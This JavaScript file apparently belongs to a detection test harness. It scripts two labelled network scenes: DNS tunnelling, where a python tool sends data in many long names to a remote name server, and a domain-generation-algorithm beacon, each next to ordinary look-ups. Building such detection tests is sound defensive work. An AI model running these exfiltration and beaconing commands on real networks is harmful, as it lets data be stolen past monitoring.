import { fileURLToPath } from 'node:url';
import { sleep } from '../../processes.mjs';
import { serveDns } from '../../servers/dnsmasq.mjs';
import { scene } from './scene.mjs';

const TUNNEL = fileURLToPath(new URL('../../tools/dns-tunnel.py', import.meta.url));
const CONSONANTS = 'bcdfghjklmnpqrstvwxz';

const lookUp = (server, name, what, more = {}) => ({
  what,
  technique: 'dns',
  argv: ['dig', `@${server}`, '+tries=1', '+time=2', '+short', name],
  flows: [{ proto: 'udp', dst: server, dst_port: 53, app: 'dns' }],
  ...more,
});

/** Data in names of one domain, and beside it ordinary look-ups. */
export const dnsTunnel = scene({
  name: 'dns-tunnel',
  title:
    'Data in names: hundreds of different long names under one domain, answers in TXT, beside ordinary look-ups',
  commands: ['dnsmasq', 'dig', 'python3'],
  prepare: async ({ network, rng, remote }) => {
    const gate = await network.addHost('gate', { kind: 'router' });
    const victim = await network.addHost('desk-1');
    const desk = await network.addHost('desk-2');
    const far = await remote('name-server');
    const domain = `${rng.pick(['quick', 'green', 'north'])}-${rng.pick(['lane', 'field', 'harbour'])}.example`;
    await far.serve(['/usr/bin/python3', TUNNEL, 'serve', far.elsewhere, domain], { udp: [53] });
    await serveDns(gate, {
      records: ['host-record=files.works.example,192.168.9.9', 'host-record=print.works.example,192.168.9.8'],
    });
    return { gate, victim, desk, far, domain };
  },
  play: async ({ labels, rng }, { gate, victim, desk, far, domain }) => {
    const ordinary = async () => {
      for (let i = rng.int(2, 5); i > 0; i--) {
        await labels.act(
          desk,
          lookUp(
            gate.address,
            rng.pick(['files.works.example', 'print.works.example', 'old.works.example']),
            'looks up a name',
          ),
        );
        await sleep(rng.gap(40));
      }
    };
    await ordinary();
    const count = rng.int(150, 260);
    const size = rng.int(30, 60);
    await labels.act(victim, {
      what: 'sends data in names',
      technique: 'dns-tunnel',
      attack: 'T1071.004',
      malicious: true,
      tool: 'dns-tunnel.py',
      argv: [
        '/usr/bin/python3',
        TUNNEL,
        'send',
        far.elsewhere,
        `t.${domain}`,
        String(count),
        String(size),
        rng.hex(4),
      ],
      flows: [{ proto: 'udp', dst: far.elsewhere, dst_port: 53, app: 'dns' }],
      details: { domain, names: count, bytes: count * size },
      expect: { notice: { note: 'dns-tunnel', src: victim.address, dst: far.elsewhere } },
    });
    await ordinary();
  },
});

/** Names drawn by an algorithm that nobody has registered; beside a desk whose search suffix is wrong. */
export const dga = scene({
  name: 'dga',
  title: 'Names drawn by an algorithm, none of them registered, beside a desk with a wrong search suffix',
  commands: ['dnsmasq', 'dig'],
  prepare: async ({ network }) => {
    const gate = await network.addHost('gate', { kind: 'router' });
    const victim = await network.addHost('desk-1');
    const desk = await network.addHost('desk-2');
    await serveDns(gate, {
      records: [
        'local=/com/',
        'local=/net/',
        'local=/info/',
        'local=/lan/',
        'host-record=files.works.example,192.168.9.9',
      ],
    });
    return { gate, victim, desk };
  },
  play: async ({ labels, rng }, { gate, victim, desk }) => {
    const drawn = Array.from({ length: rng.int(25, 50) }, () => {
      const letters = Array.from({ length: rng.int(9, 16) }, () => rng.pick([...`${CONSONANTS}aeiouy`]));
      return `${letters.join('')}.${rng.pick(['com', 'net', 'info'])}`;
    });
    for (let i = rng.int(6, 14); i > 0; i--)
      await labels.act(
        desk,
        lookUp(
          gate.address,
          `${rng.pick(['files', 'print', 'mail', 'wiki'])}${i}.site.lan`,
          'looks up a name with a wrong suffix',
        ),
      );
    await labels.act(victim, {
      what: 'looks for its controller',
      technique: 'dga',
      attack: 'T1568.002',
      malicious: true,
      argv: ['dig', `@${gate.address}`, '+tries=1', '+time=2', '+short', ...drawn],
      portBlock: 512,
      flows: [{ proto: 'udp', dst: gate.address, dst_port: 53, app: 'dns' }],
      details: { names: drawn },
      expect: { notice: { note: 'dga', src: victim.address, dst: gate.address } },
    });
    await labels.act(desk, lookUp(gate.address, 'files.works.example', 'looks up a name'));
  },
});
